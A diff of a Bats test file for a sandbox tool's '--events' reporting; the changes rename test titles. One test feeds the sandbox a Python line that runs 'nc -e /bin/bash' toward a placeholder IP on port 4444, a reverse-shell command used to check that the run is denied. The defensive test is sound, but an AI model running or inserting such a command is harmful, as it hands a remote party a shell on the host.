@@ -40,7 +40,7 @@ story() {
 		'[e["event"] for e in L].index("denial") < len(L) - 2'
 	[ ! -s "$T/err" ] || show
 }
-@test "a run is told from its start to its result" {
+@test "--events reports a run from its start to its result" {
 	code x.py <<-'END'
 		import os, sys, time
 		os.write(1, "h\u00e9 ".encode() + b"\xe2\x82")
@@ -136,7 +136,7 @@ cut() {
 		'len(text("stdout")) == 4096' 'R["truncated"]["stdout"]["at"] == 2048' \
 		'"\u20ac".encode() * 682 in text("stdout")[:2048]' 'text("stdout").endswith("\u20ac".encode() * 682)'
 }
-@test "what is left out is counted" {
+@test "--events counts the output that it leaves out" {
 	printf 'import sys\nsys.stdout.write("\\u20ac" * 1000000)\n' | code x.py
 	every cut
 }
@@ -146,12 +146,12 @@ late() {
 	exits 124
 	lines '[(e["limit"], e["ended"]) for e in of("limit")] == [("time", True)]' 'R["status"] == "timed_out"'
 }
-@test "a limit is told" {
+@test "--events reports a limit" {
 	printf 'while True: pass\n' | code x.py
 	every late
 }
 
-@test "what does not run is a result too" {
+@test "--events reports a run that does not start as a result" {
 	printf 'import os\nos.system("nc -e /bin/bash 192.0.2.1 4444")\n' | code x.py
 	status=0
 	"$CORDON" run --events "$T/x.py" >"$T/out" || status=$?
@@ -177,7 +177,7 @@ late() {
 	done
 }
 
-@test "a line that could not be written is told" {
+@test "a line of --events that could not be written is a failure" {
 	[ -e /dev/full ] || skip "no /dev/full"
 	printf 'print(1)\n' | code x.py
 	status=0
